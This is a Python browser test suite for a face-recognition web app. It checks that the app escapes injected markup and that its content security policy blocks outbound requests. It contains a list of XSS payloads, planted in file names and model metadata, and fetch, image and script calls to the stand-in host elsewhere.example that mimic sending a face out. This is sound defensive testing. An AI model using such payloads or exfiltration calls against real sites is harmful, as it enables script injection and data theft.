"""In a real browser: what others wrote never runs, and nothing that was seen gets out."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import onnx
import pytest

from tests.ui.conftest import visiting
from tests.ui.states import STATES, about, batch, image, video
from ui.settings import Recognizers

pytestmark = pytest.mark.browser

# Each would call `hostile`, if it were taken for markup, a template or an address.
ATTACKS = (
    "<img src=x onerror=hostile(1)>",
    "<script>hostile(2)</script>",
    "${hostile(3)}",
    "{{hostile(4)}}",
    "'\"><svg onload=hostile(5)>",
    "javascript:hostile(6)",
)

USED = ("image-result", "webcam-running", "video-result", "batch-result", "about", "settings")

# What a browser says of a page that does what its policy forbids.
TELL = """window.forbidden = 0;
addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI}) => {
    console.error("policy", violatedDirective, blockedURI); forbidden += 1; })"""


@pytest.fixture
def window(browser: Any, url: str) -> Iterator[Any]:
    """A browser's window, whose `hostile` tells who called it, and the errors of its console."""
    called: list[Any] = []
    errors: list[str] = []

    def prepare(tab: Any) -> None:
        tab.called, tab.errors = called, errors
        # Playwright can't name a method of a list.
        tab.expose_function("hostile", lambda who: called.append(who))  # noqa: PLW0108
        tab.add_init_script(TELL)
        tab.on("console", lambda said: errors.append(said.text) if said.type == "error" else None)
        tab.on("pageerror", lambda error: errors.append(str(error)))

    with visiting(browser, url, prepare) as tab:
        yield tab


def test_the_page_keeps_its_own_policy(window: Any) -> None:
    for name in USED:
        STATES[name](window)
    assert window.errors == []


def test_what_would_leave_the_page_is_held_back(window: Any) -> None:
    """A script that got in after all could not send a face away."""
    window.evaluate("fetch('https://elsewhere.example/').catch(() => null)")
    window.evaluate("new Image().src = 'https://elsewhere.example/?face'")
    window.evaluate("""() => { const script = document.createElement("script");
        script.src = "https://elsewhere.example/a.js"; document.head.append(script); }""")
    window.wait_for_function("forbidden >= 3")
    policies = {text.split()[1] for text in window.errors if text.startswith("policy ")}
    assert policies == {"connect-src", "img-src", "script-src-elem"}


def test_files_with_hostile_names_stay_text(window: Any, no_faces: Path) -> None:
    picture = {"mimeType": "image/png", "buffer": no_faces.read_bytes()}
    bad = {"mimeType": "image/png", "buffer": b"no picture"}
    batch(window)
    names = [f"{attack.replace('/', '_')}.png" for attack in ATTACKS]
    files = [content | {"name": name} for name in names for content in (picture, bad)]
    window.set_input_files("#batch .files", files)
    window.locator("#batch .outcome").wait_for()
    shown = window.locator("#batch .picture .name").all_text_contents()
    assert shown == [name for name in names for _ in (picture, bad)]
    for name in names[::2]:
        image(window)
        window.set_input_files("#image .files", bad | {"name": name})
        window.locator("#image .problem-box p").filter(has_text=name).wait_for()
        video(window)
        window.set_input_files("#video .files", bad | {"name": f"{name}.mp4"})
        window.locator("#video .problem").wait_for()
    assert window.called == []


def test_after_the_camera_was_pulled_out_it_goes_on_where_there_is_one(window: Any) -> None:
    STATES["webcam-running"](window)
    window.evaluate(
        """document.querySelector("#webcam video").srcObject.getTracks().forEach((track) => {
        track.stop(); track.dispatchEvent(new Event("ended")); })"""
    )
    window.get_by_role("alert").filter(has_text="was disconnected").wait_for()
    STATES["webcam-running"](window)
    assert window.locator("#webcam .problem").text_content() == ""
    assert window.errors == []


@pytest.fixture
def hostile_model(tiny_model: Path, tmp_path: Path) -> Path:
    """A model that fits, and speaks ill of itself."""
    model = onnx.load(tiny_model)
    (labels,) = [prop.value for prop in model.metadata_props if prop.key == "labels"]
    keys = ("version", "recipe", "architecture", "commit", "dataset", "licence")
    words = dict(zip(keys, ATTACKS, strict=True))
    words["metrics"] = json.dumps({attack: {"accuracy": float("inf")} for attack in ATTACKS})
    onnx.helper.set_model_props(model, words | {"labels": labels})
    path = tmp_path / "hostile.onnx"
    onnx.save(model, path)
    return path


def test_a_hostile_model_s_words_stay_text(window: Any, launch: Any, hostile_model: Path) -> None:
    window.goto(launch(Recognizers(hostile_model)).local_url)
    window.locator(".example").first.wait_for()
    about(window)
    said = window.locator("#about").text_content()
    # As JSON, in which a quotation mark has a backslash before it.
    assert [attack for attack in ATTACKS if json.dumps(attack) in said] == list(ATTACKS)
    assert window.called == []
    assert window.errors == []
